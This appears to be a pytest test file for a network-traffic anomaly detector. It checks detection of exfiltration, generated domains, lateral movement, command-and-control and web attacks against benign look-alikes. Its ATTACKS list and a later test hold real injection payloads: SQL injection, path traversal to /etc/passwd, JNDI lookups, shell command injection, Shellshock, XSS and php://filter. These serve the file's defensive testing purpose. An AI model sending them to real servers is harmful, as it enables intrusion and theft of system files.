"""Names, data that leave, long talk, newcomers, odd packets, attacks, moves inside: found, beside look-alikes."""

from __future__ import annotations

import time
from dataclasses import replace

import numpy as np
import pytest

from amiss.network.behave import find_behaviours
from amiss.network.behaviours.web_attack import attack_of
from amiss.network.finding import Finding
from amiss.network.flows import ICMP, TCP, Flows
from amiss.network.traffic import Traffic
from tests.network.behaviours.made import BEGIN, Made, office

BAD, OUT = "10.0.0.21", "203.0.113.9"
LETTERS = np.array(list("abcdefghijklmnopqrstuvwxyz"))


def only(made: Made, usual: Traffic | None = None) -> Finding:
    found = find_behaviours(made.traffic(), usual)
    assert len(found) == 1, [one.reason for one in found]
    return found[0]


def reasons(made: Made, usual: Traffic | None = None) -> list[str]:
    return [one.reason for one in find_behaviours(made.traffic(), usual)]


def test_domain_after_domain_that_does_not_exist_is_generated() -> None:
    made, random = office(), np.random.default_rng(1)
    for i in range(60):
        name = "".join(random.choice(LETTERS, random.integers(8, 16)))
        made.ask(BAD, f"{name}.example", BEGIN + 900 + 15 * i, code=0 if i == 50 else 3)
    one = only(made)
    assert (one.kind, one.host, one.technique) == ("generated_names", BAD, "T1568.002")
    assert one.measures[0].value >= 50


def test_block_lists_misspellings_and_name_servers_that_ask_for_all_are_not_generated() -> None:
    made, random = office(), np.random.default_rng(2)
    for i in range(100):
        made.ask("10.0.0.5", f"{random.integers(256)}.{i}.7.9.zen.block.example", BEGIN + 41 * i, code=3)
        made.ask("10.0.0.22", f"typo{i // 30}.example", BEGIN + 90 * i, code=3)
        # Each of many hosts asks for a few names that are not there, and their name server asks for all of them.
        made.ask(f"10.0.0.{20 + i % 12}", f"old{i % 5}.gone{i % 7}.example", BEGIN + 60 * i, code=3)
        made.ask("10.0.0.2", f"old{i % 5}.gone{i}.example", BEGIN + 60 * i, code=3, server="192.0.2.53")
    assert reasons(made) == []


@pytest.mark.parametrize("pieces", [1, 120])
def test_much_that_leaves_to_one_server_is_exfiltration(pieces: int) -> None:
    made, random = office(), np.random.default_rng(3)
    for at in np.sort(random.uniform(600, 9000, pieces)):
        made.flow(BAD, OUT, BEGIN + at, 443, payload_out=300e6 / pieces, payload_in=9e5 / pieces, name="drop.example")
    one = only(made)
    assert (one.kind, one.host, one.peers) == ("exfiltration", BAD, (OUT,))
    assert "300 MB" in one.reason


def test_what_all_send_to_what_is_sent_inside_and_what_comes_in_is_no_exfiltration() -> None:
    made = office()
    for i in range(6):
        made.flow(f"10.0.0.{20 + i}", "192.0.2.77", BEGIN + 500 * i, 443, payload_out=300e6, name="backup.example")
    made.flow(BAD, "10.0.0.5", BEGIN + 900, 445, payload_out=900e6)
    made.flow(BAD, OUT, BEGIN + 900, 443, payload_in=900e6)
    assert reasons(made) == []


def test_echoes_that_carry_much_are_exfiltration() -> None:
    made = office()
    made.flow(BAD, OUT, BEGIN + 900, 0, src_port=8, protocol=ICMP, packets_out=400.0, bytes_out=400_000.0)
    made.flow("10.0.0.22", OUT, BEGIN + 900, 0, src_port=8, protocol=ICMP, packets_out=240.0, bytes_out=20_160.0)
    assert (only(made).kind, only(made).host) == ("exfiltration", BAD)


@pytest.mark.parametrize("pieces", [1, 5])
def test_a_connection_of_hours_is_told_whole_or_in_pieces(pieces: int) -> None:
    made = office()
    for i in range(pieces):
        made.flow(
            BAD, OUT, BEGIN + 600 + i * 9000 / pieces, 9443, duration=9000 / pieces - 1, src_port=50_000,
            payload_out=4e4, payload_in=9e4,
        )  # fmt: skip
    one = only(made)
    assert (one.kind, one.host, len(one.flows)) == ("long_connection", BAD, pieces)


def test_tunnels_of_offices_and_messages_that_wait_are_no_long_connection() -> None:
    made = office()
    for port in (4500, 5222, 8883):
        made.flow(BAD, f"203.0.113.{port % 200}", BEGIN + 600, port, duration=9000.0)
    for i in range(4):
        made.flow(f"10.0.0.{20 + i}", "192.0.2.80", BEGIN + 600, 443, duration=9000.0, name="push.example")
    assert reasons(made) == []


@pytest.mark.parametrize(("sent", "name", "port", "told"), [
    (2_000.0, "www.far.example", 443, False), (20_000.0, "www.far.example", 443, True), (2_000.0, "", 443, True),
    (2_000.0, "www.far.example", 4444, True),
])  # fmt: skip
def test_a_web_connection_by_name_that_nobody_speaks_through_was_only_left_open(
    sent: float, name: str, port: int, told: bool
) -> None:
    made = office()
    made.flow(BAD, OUT, BEGIN + 600, port, duration=9000.0, payload_out=sent, payload_in=2_000.0, name=name)
    assert [one.kind for one in find_behaviours(made.traffic())] == ["long_connection"] * told


def test_a_new_device_a_new_service_and_one_that_gives_out_addresses_are_newcomers() -> None:
    made = office(1)
    for i in range(5):
        made.flow("10.0.0.200", f"198.51.100.{i + 1}", BEGIN + 900 + i, 443)
        made.flow("10.0.0.22", "10.0.0.23", BEGIN + 1000 + i, 8080)
        made.flow("10.0.0.24", "10.0.0.25", BEGIN + 1100 + i, 67, protocol=17)
    found = find_behaviours(made.traffic(), usual=office(0).traffic())
    assert [(one.kind, one.host) for one in found] == [
        ("newcomer", "10.0.0.25"), ("newcomer", "10.0.0.200"), ("newcomer", "10.0.0.23"),
    ]  # fmt: skip
    assert "gives out addresses" in found[0].reason


def test_without_a_history_nobody_is_new() -> None:
    made = office()
    made.flow("10.0.0.200", "198.51.100.1", BEGIN + 9000, 443)
    assert reasons(made) == []


@pytest.mark.parametrize(
    ("rows", "told"),
    [
        ([{"flags_out": 0, "state": "OTH"}] * 2, "flags that begin no connection"),
        ([{"flags_out": 41, "state": "OTH"}] * 2, "flags that begin no connection"),
        ([{"src_port": 139, "state": "S0"}], "from a host to itself"),
        ([{"service": "ssh"}], "ssh on port 443"),
    ],
)
def test_odd_packets_and_protocols_are_told(rows: list[dict[str, object]], told: str) -> None:
    made = office()
    for i, row in enumerate(rows):
        land = "src_port" in row
        state = row.get("state", "SF") != "OTH"
        sizes: dict[str, object] = {} if state else {
            "payload_out": 0.0, "payload_in": 0.0, "packets_out": 1.0, "packets_in": 1.0, "flags_in": 20,
        }  # fmt: skip
        target, port = (BAD, 139) if land else ("10.0.0.30", 443)
        made.flow(BAD, target, BEGIN + 900 + i, port, **{**sizes, **row})
    one = only(made)
    assert (one.kind, one.host) == ("odd_protocol", BAD)
    assert told in one.reason


ATTACKS = (
    "/item?id=1%27%20or%20%271%27%3D%271", "/item?id=7+UNION+SELECT+null,version()--", "/item?id=1+and+1%3D2",
    "/item?id=1/**/union/**/select/**/password/**/from/**/users", "/item?id=1'%3B+drop+table+users--",
    "/item?id=1+and+sleep(5)", "/view?file=../../../../etc/passwd", "/view?file=..%252f..%252fetc%252fpasswd",
    "/?x=${jndi:ldap://a.example/b}", "/?x=$%7B$%7Blower:j%7Dndi:ldap://a.example/b%7D",
    "/ping?ip=1.1.1.1;cat+/etc/passwd",
    "/ping?ip=1.1.1.1|whoami", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "/s?q=<img+src=x+onerror=alert(1)>",
    "/page?f=php://filter/convert.base64-encode/resource=index.php",
)  # fmt: skip
HARMLESS = (
    "/search?q=O'Brien+and+sons+select+shirts", "/search?q=union+select+committee+report", "/s?q=drop+table+lamp",
    "/s?q=%22to+be+or+not+to+be%22", "/s?q=rock+%26+roll;+best+of", "/s?q=5+or+6+people", "/a/../b/style.css?v=1.2",
    "/api?filter=%7B%22a%22:1,%22b%22:%22x%20or%20y%22%7D", "/r?url=https://www.example.com/a?b=c",
    "/s?q=select+*+from+menu",
    "/calc?e=(1%2B2)*3", "/s?q=what's+new+--+today", "/u?name=D'Angelo&city=L'Aquila", "/s?q=it's+1+or+2+things",
    "/docs/sql/union-select.html", "/s?q=cat+pictures;+dogs", "/t?text=if+a+%3C+b+and+c+%3E+d",
)  # fmt: skip


@pytest.mark.parametrize("path", ATTACKS)
def test_attacks_are_known_by_their_structure(path: str) -> None:
    assert attack_of(path)[1] >= 1.0


@pytest.mark.parametrize("path", HARMLESS)
def test_words_and_quotes_are_no_attack(path: str) -> None:
    assert attack_of(path)[1] < 1.0


def test_what_is_sent_along_and_the_browsers_name_are_read_too() -> None:
    assert attack_of("/login", "user=admin'+or+'1'='1'--+&password=x")[0] == "SQL injection"
    assert attack_of("/", agent="${jndi:ldap://203.0.113.5/a}")[0] == "look-up injection"
    assert attack_of("/cgi", agent="() { :; }; /bin/cat /etc/passwd")[0] == "command injection"


def test_a_request_full_of_blanks_takes_no_longer_than_others() -> None:
    assert attack_of("/?q=1'" + "+" * 1500 + "or" + "%20" * 100 + "'1'='1'")[0] == "SQL injection"
    begun = time.process_time()
    for k in range(50):
        attack_of(f"/{k}?q='" + "+" * 2000)
    assert time.process_time() - begun < 0.5


@pytest.mark.parametrize(
    "text",
    ["/*a" * 680, "1 " * 1000, "'" * 2000, "..;" * 600, "union select " * 150, "${" * 900, "<a " * 600, "%25" * 600],
)
def test_texts_made_to_be_slow_are_not(text: str) -> None:
    begin = time.process_time()
    attack_of("/?q=" + text, text[:512], text[:256])
    assert time.process_time() - begin < 0.5


def test_attacks_on_a_web_server_are_one_event() -> None:
    made = office()
    for i, path in enumerate(ATTACKS):
        made.request("203.0.113.5", "10.0.0.8", BEGIN + 900 + 5 * i, path)
    for i, path in enumerate(HARMLESS * 3):
        made.request("10.0.0.22", "10.0.0.8", BEGIN + 1000 + 50 * i, path)
    one = only(made)
    assert (one.kind, one.host, one.peers, one.technique) == ("web_attack", "203.0.113.5", ("10.0.0.8",), "T1190")
    assert len(one.flows) == len(ATTACKS)


def test_logins_of_host_after_host_are_lateral_movement() -> None:
    made = office()
    for i in range(9):
        made.flow(BAD, f"10.0.0.{22 + i}", BEGIN + 3000 + 200 * i, 445 if i % 2 else 3389, payload_out=9000.0)
        # The file server of all, and the administrator's machines, day in, day out.
        for k in range(12):
            made.flow(f"10.0.0.{20 + k}", "10.0.0.5", BEGIN + 1000 * i + k, 445)
        made.flow("10.0.0.31", f"10.0.0.{40 + i % 5}", BEGIN + 1000 * i, 22, payload_out=4000.0)
        made.flow("10.0.0.31", f"10.0.0.{40 + (i + 2) % 5}", BEGIN + 1100 * i, 22, payload_out=90_000.0, duration=900.0)
    one = only(made)
    assert (one.kind, one.host, len(one.peers)) == ("lateral_movement", BAD, 9)


def test_posts_to_a_bare_address_on_an_odd_port_are_command_and_control() -> None:
    made = office()
    for i in range(3):
        more = {"method": "POST", "host": f"{OUT}:7080", "port": 7080}
        made.request(BAD, OUT, BEGIN + 900 + 1000 * i**2, "/K7wQp2JzTyyGBEx9sk", **more)
        made.rows[-1]["dst_port"] = 7080
    made.request("10.0.0.22", "203.0.113.80", BEGIN + 900, "/index.html", host="203.0.113.80")
    one = only(made)
    assert (one.kind, one.host, one.peers) == ("command_and_control", BAD, (OUT,))


@pytest.mark.parametrize("cut", ["nothing known", "nothing sound", "nothing there"])
def test_nothing_known_is_no_error_and_no_event(cut: str) -> None:
    n = 40
    words = [f"10.0.0.{i}" for i in range(n)]
    flows = {
        "nothing known": Flows.of(words, words[::-1], start=np.full(n, np.nan)),
        "nothing sound": Flows.of(
            words, ["10.0.0.1"] * n, start=np.append(np.full(n - 1, 5.0), np.inf), protocol=np.full(n, TCP),
            dst_port=np.full(n, -1), src_port=np.full(n, 10**6), duration=np.full(n, np.inf),
            bytes_out=np.full(n, -5.0), flags_out=np.full(n, 255), state=np.full(n, 77),
        ),
        "nothing there": Flows.of([], []),
    }[cut]  # fmt: skip
    for usual in (None, Traffic(flows)):
        assert find_behaviours(Traffic(flows), usual) == []


def test_positions_are_those_of_all_flows_where_some_have_no_time() -> None:
    made = Made()
    for i in range(60):
        made.flow(BAD, f"10.0.0.{i + 100}", BEGIN + i, 445, state="S0")
    flows = made.traffic().flows
    holes = Flows.stacked([flows.take(np.arange(3)), flows])
    start = holes.start.copy()
    start[:3] = np.nan
    (one,) = find_behaviours(Traffic(replace(holes, start=start)))
    assert one.flows.tolist() == list(range(3, 63))
